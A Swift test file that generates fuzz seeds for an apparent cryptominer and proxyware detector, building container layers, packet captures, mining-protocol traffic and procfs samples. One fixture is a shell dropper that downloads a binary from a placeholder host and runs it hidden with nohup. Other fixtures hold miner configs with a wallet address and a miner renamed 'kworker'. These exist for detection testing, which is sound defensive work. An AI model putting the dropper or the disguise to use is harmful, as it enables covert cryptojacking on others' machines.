import Foundation
import MinewatchFuzz
import Testing
import TestSupport

/// Writes the seed corpus into Tests/Fixtures/fuzz/seeds (run once when the formats change:
/// `MW_WRITE_FUZZ_SEEDS=1 swift test --filter FuzzSeedWriter`); the files are committed.
@Suite struct FuzzSeedWriter {
    static let enabled = ProcessInfo.processInfo.environment["MW_WRITE_FUZZ_SEEDS"] == "1"

    static func put(_ target: String, _ name: String, _ bytes: [UInt8]) throws {
        let dir = fixturePath("fuzz/seeds/\(target)")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        try Data(bytes).write(to: URL(fileURLWithPath: "\(dir)/\(name)"))
    }

    static func sampleTar() -> [UInt8] {
        var t = TarBuilder()
        t.dir("usr/bin")
        t.file("usr/bin/kworker", Samples.elf(Samples.xmrigStrings, filler: 256))
        t.file("etc/" + String(repeating: "long-name/", count: 12) + "config.json", "{\"pools\":[{\"url\":\"stratum+tcp://198.18.1.2:3333\",\"user\":\"x\"}],\"donate-level\":1,\"cpu\":{}}")
        t.symlink("usr/bin/sh", to: "/bin/busybox")
        t.hardlink("usr/bin/h", to: "usr/bin/kworker")
        t.whiteout("opt/old")
        t.opaque("var/cache")
        t.device("dev/null")
        return t.finished()
    }

    static func ipv4TCP(_ payload: [UInt8], sport: UInt16, dport: UInt16, seq: UInt32, flags: UInt8 = 0x18) -> [UInt8] {
        let total = 40 + payload.count
        let ip: [UInt8] = [0x45, 0, UInt8(total >> 8), UInt8(total & 0xff), 0, 0, 0x40, 0, 64, 6, 0, 0, 198, 18, 1, 2, 198, 18, 1, 3]
        let tcp: [UInt8] = [UInt8(sport >> 8), UInt8(sport & 0xff), UInt8(dport >> 8), UInt8(dport & 0xff),
                            UInt8(seq >> 24), UInt8(seq >> 16 & 0xff), UInt8(seq >> 8 & 0xff), UInt8(seq & 0xff), 0, 0, 0, 0, 0x50, flags, 0xff, 0xff, 0, 0, 0, 0]
        return ip + tcp + payload
    }

    static func le32(_ v: UInt32) -> [UInt8] { withUnsafeBytes(of: v.littleEndian, Array.init) }
    static func le16(_ v: UInt16) -> [UInt8] { withUnsafeBytes(of: v.littleEndian, Array.init) }

    static let stratumLogin = Array("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n".utf8)
    static let stratumJob = Array("{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"id\":\"a\",\"job\":{\"blob\":\"0707\",\"job_id\":\"1\",\"target\":\"b88d0600\"},\"status\":\"OK\"}}\n".utf8)
    static let pktPost = Array("POST /submit HTTP/1.1\r\nHost: 198.18.1.3\r\nx-pc-payto: pkt1qg3px2vfzvgjzmu4dvyqpfsvn6d4sk97s3gqmgp\r\nx-pc-sver: 1\r\nx-pc-annver: 1\r\nx-pc-worknum: 100\r\nTransfer-Encoding: chunked\r\n\r\n400\r\n".utf8) + [UInt8](repeating: 7, count: 1024) + Array("\r\n0\r\n\r\n".utf8)
    /// A rebranded miner's login and a RandomX job (algo, seed_hash, a Monero v16 blob).
    static let stratumRandomX = Array("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"rig-07\",\"pass\":\"x\",\"agent\":\"SysMonitor/2.1\",\"algo\":[\"rx/0\",\"cn/r\"]}}\n".utf8)
    static let randomXJob = Array(("{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"id\":\"a\",\"job\":{\"blob\":\"1010" + String(repeating: "ab", count: 74)
        + "\",\"job_id\":\"1\",\"target\":\"b88d0600\",\"algo\":\"rx/0\",\"seed_hash\":\"" + String(repeating: "cd", count: 32) + "\"},\"status\":\"OK\"}}\n").utf8)
    /// Two announcements laid out as PacketCrypt_AnnounceHdr_t in a Content-Length body.
    static let announcementPost: [UInt8] = {
        var body: [UInt8] = []
        for k in 0..<2 {
            var a = [UInt8](repeating: UInt8(0x5a + k), count: 1024)
            a[0] = 1
            for i in 0..<4 { a[8 + i] = UInt8(truncatingIfNeeded: UInt32(0x2000_ffff) >> (8 * UInt32(i))); a[12 + i] = UInt8(truncatingIfNeeded: UInt32(1_000_000) >> (8 * UInt32(i))) }
            for i in 16..<24 { a[i] = 0 }
            body += a
        }
        return Array("POST /submit HTTP/1.1\r\nHost: 198.18.1.3\r\nContent-Length: \(body.count)\r\n\r\n".utf8) + body
    }()
    static let configPoll = Array("GET /config.json HTTP/1.1\r\nHost: pool\r\nUser-Agent: packetcrypt_rs 0.6.0\r\nx-pc-sid: 0123456789abcdef0123456789abcdef\r\n\r\n".utf8)

    static func clientHello(_ host: String) -> [UInt8] {
        let name = Array(host.utf8)
        let list: [UInt8] = [0, UInt8(name.count >> 8), UInt8(name.count & 0xff)] + name
        let ext: [UInt8] = [UInt8(list.count >> 8), UInt8(list.count & 0xff)] + list
        let sni: [UInt8] = [0, 0, UInt8(ext.count >> 8), UInt8(ext.count & 0xff)] + ext
        let exts: [UInt8] = [UInt8(sni.count >> 8), UInt8(sni.count & 0xff)] + sni
        let body: [UInt8] = [3, 3] + [UInt8](repeating: 7, count: 32) + [0, 0, 2, 0x13, 0x01, 1, 0] + exts
        let hs: [UInt8] = [1, 0, UInt8(body.count >> 8), UInt8(body.count & 0xff)] + body
        return [0x16, 3, 1, UInt8(hs.count >> 8), UInt8(hs.count & 0xff)] + hs
    }

    static func dnsAnswer() -> [UInt8] {
        var d: [UInt8] = [0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]
        for l in ["pool", "pkt", "world"] { d += [UInt8(l.count)] + Array(l.utf8) }
        return d + [0, 0, 1, 0, 1, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 198, 18, 1, 7]
    }

    /// [direction+length][payload] records for the `stream` harness.
    static func records(port: UInt8, _ parts: [(Bool, [UInt8])]) -> [UInt8] {
        var out: [UInt8] = [port]
        for (fromClient, p) in parts {
            let len = min(p.count, 0x7fff)
            out += [UInt8(len >> 8) | (fromClient ? 0 : 0x80), UInt8(len & 0xff)] + p.prefix(len)
        }
        return out
    }

    @Test(.enabled(if: enabled)) func writeSeeds() throws {
        let tar = Self.sampleTar()
        try Self.put("tar", "sample.tar", tar)
        try Self.put("decompress", "sample.tar.gz", try gzip(tar))
        try Self.put("decompress", "sample.tar.zst", try zstdCompress(tar))
        try Self.put("decompress", "two-members.gz", try gzip(Array(tar.prefix(700))) + (try gzip(Array(tar.suffix(700)))))
        try Self.put("layer", "layer.tar", tar)
        try Self.put("layer", "layer.tar.gz", try gzip(tar))
        try Self.put("layer", "layer.tar.zst", try zstdCompress(tar))
        var img = ImageBuilder(layers: [tar, Self.sampleTar()])
        img.cmd = ["ann", "-p", PacketCryptCheckout.pkt, "http://pool.pkt.world"]
        img.env = ["POOL_URL=stratum+tcp://198.18.1.2:3333"]
        try Self.put("image", "docker-archive.tar", img.dockerArchive())
        try Self.put("image", "oci-archive.tar", ImageBuilder(layers: [try gzip(tar)], uncompressed: [tar]).ociArchive(platforms: 2))
        try Self.put("config", "config.json", img.configJSON())
        try Self.put("rules", "behaviour-only-rules.yaml", Array(try Data(contentsOf: URL(fileURLWithPath: fixturePath("behaviour-only-rules.yaml")))))
        // Classic pcap, raw IPv4 link type, a Stratum login and its job.
        var pcap = Self.le32(0xA1B2_C3D4) + Self.le16(2) + Self.le16(4) + Self.le32(0) + Self.le32(0) + Self.le32(65535) + Self.le32(101)
        for (i, p) in [Self.ipv4TCP([], sport: 40000, dport: 3333, seq: 1, flags: 0x02), Self.ipv4TCP(Self.stratumLogin, sport: 40000, dport: 3333, seq: 2)].enumerated() {
            pcap += Self.le32(1_700_000_000 + UInt32(i)) + Self.le32(0) + Self.le32(UInt32(p.count)) + Self.le32(UInt32(p.count)) + p
        }
        try Self.put("pcap", "stratum-raw.pcap", pcap)
        let eth: [UInt8] = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 0x81, 0x00, 0, 5, 0x08, 0x00]
        try Self.put("packet", "ethernet-vlan-tcp", [0, 1] + eth + Self.ipv4TCP(Self.stratumLogin, sport: 40000, dport: 3333, seq: 9))
        try Self.put("packet", "raw-ipv4-tcp", [0, 101] + Self.ipv4TCP(Self.pktPost, sport: 40000, dport: 80, seq: 9))
        let v6: [UInt8] = [0x60, 0, 0, 0, 0, 28, 0, 64] + [UInt8](repeating: 0xfe, count: 16) + [UInt8](repeating: 0xfd, count: 16)
        try Self.put("packet", "raw-ipv6-hopbyhop", [0, 101] + v6 + [17, 0, 0, 0, 0, 0, 0, 0] + [0x9c, 0x40, 0, 53, 0, 20, 0, 0] + Self.dnsAnswer().prefix(12))
        try Self.put("packet", "cooked-v2", [0, 20] + [0x08, 0x00, 0, 0, 0, 0, 0, 1, 0, 0, 1, 6] + [UInt8](repeating: 0, count: 8) + Self.ipv4TCP([], sport: 1, dport: 2, seq: 3))
        try Self.put("stream", "stratum-monero", Self.records(port: 0, [(true, Self.stratumLogin), (false, Self.stratumJob)]))
        try Self.put("stream", "packetcrypt-http", Self.records(port: 1, [(true, Self.configPoll), (false, Array("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}".utf8)), (true, Self.pktPost)]))
        try Self.put("stream", "stratum-randomx", Self.records(port: 0, [(true, Self.stratumRandomX), (false, Self.randomXJob)]))
        try Self.put("stream", "announcements", Self.records(port: 1, [(true, Self.announcementPost)]))
        try Self.put("stream", "tls-sni", Self.records(port: 2, [(true, Self.clientHello("pool.supportxmr.com"))]))
        try Self.put("stream", "getwork", Self.records(port: 3, [(true, Array("POST / HTTP/1.1\r\nContent-Length: 44\r\nX-Mining-Extensions: longpoll\r\n\r\n{\"method\":\"getwork\",\"params\":[],\"id\":0}    ".utf8))]))
        try Self.put("tls", "client-hello", Self.clientHello("pool.supportxmr.com"))
        try Self.put("dns", "answer", Self.dnsAnswer())
        try Self.put("procfs", "hosts", [0] + Array("127.0.0.1\tlocalhost\n::1 localhost ip6-localhost\n198.18.1.160\tproxy.wynd.network grass # pinned\n10.88.0.5 web\n".utf8))
        try Self.put("procfs", "environ", [1] + Array("PATH=/usr/bin\u{0}RP_API_KEY=abc\u{0}CID=9\u{0}".utf8))
        try Self.put("procfs", "cmdline", [2] + Array("/app/honeygain\u{0}-tou-accept\u{0}-email\u{0}a@b.c\u{0}".utf8))
        try Self.put("procfs", "stat", [3] + Array("1234 (a) b) c) S 1 1234 1234 0 -1 4194560 100 0 0 0 12 3 0 0 20 0 1 0 5000 1000000 200 18446744073709551615\n".utf8))
        try Self.put("procfs", "bundle", [6] + Array(#"{"ociVersion":"1.0.2-dev","process":{"args":["/svc"]},"annotations":{"io.kubernetes.cri.container-type":"container","io.kubernetes.cri.container-name":"miner","io.kubernetes.cri.sandbox-name":"web-7d9f","io.kubernetes.cri.sandbox-namespace":"shop","io.kubernetes.cri.image-name":"docker.io/library/nginx:1.25","io.kubernetes.cri-o.Labels":"{\"app\":\"web\"}"}}"#.utf8))
        try Self.put("procfs", "net-tcp", [4] + Array("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 12345 1 0000000000000000 100 0 0 10 0\n".utf8))
        try Self.put("file", "Dockerfile", Array("ARG V=1\nFROM traffmonetizer/cli_v2:${V}\nCMD [\"start\", \"accept\", \"--token\", \"abc\"]\n".utf8))
        try Self.put("file", "compose.yml", Array("services:\n  hg:\n    image: honeygain/honeygain\n    command: -tou-accept -email a@b.c -pass x\n".utf8))
        try Self.put("file", "xmrig-like.elf", Samples.elf(Samples.xmrigStrings + [PacketCryptCheckout.pkt], filler: 512))
        try Self.put("file", "config.json", Array("{\"pools\":[{\"url\":\"stratum+ssl://gulf.moneroocean.stream:20128\",\"user\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\"}],\"donate-level\":0,\"randomx\":{},\"cpu\":{}}".utf8))
        try Self.put("file", "dropper.sh", Array("#!/bin/sh\ncurl -o /tmp/x http://198.18.1.9/xmrig && chmod +x /tmp/x && nohup /tmp/x --donate-level 1 &\n".utf8))
        #expect(FuzzTargets.all.allSatisfy { t in !FuzzReplayTests.inputs("seeds", t.name).isEmpty || t.name == "upx" })
    }
}
